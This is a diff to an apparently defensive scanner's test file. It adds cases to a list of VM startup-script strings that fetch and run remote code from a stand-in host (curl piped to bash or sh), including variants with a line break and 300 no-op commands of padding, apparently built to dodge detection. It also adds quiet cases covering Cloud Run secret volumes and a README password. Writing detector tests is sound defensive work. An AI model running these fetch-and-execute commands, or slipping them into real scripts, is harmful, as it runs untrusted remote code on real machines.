@@ -122,6 +122,8 @@ for number, line in enumerate(
         "eval `curl https://x.example`",
         "iwr https://x.example/a.ps1 | iex",
         "source <(curl -s https://x.example/env)",
+        "curl -s https://x.example/i |\n  bash",
+        "true; " * 300 + "curl https://x.example/i | sh",
     ]
 ):
     flagged("startup_script_fetches", f"script_{number}", VM % line)
@@ -206,6 +208,13 @@ quiet(
     "in_a_script_by_reference",
     VM % 'export DB_PASSWORD="$(gcloud secrets versions access latest --secret=db)"',
 )
+quiet(
+    "secret_in_clear",
+    "secret_volume",
+    'resource "google_cloud_run_v2_service" "s" {\n  template {\n    volumes {\n      secret {\n        secret = "db-password"\n'
+    "      }\n    }\n  }\n}\n",
+)
+quiet("secret_in_clear", "readme", "", **{"README.md": "export DB_PASSWORD=pa55w0rd\n"})
 quiet(
     "secret_in_clear",
     "hash",
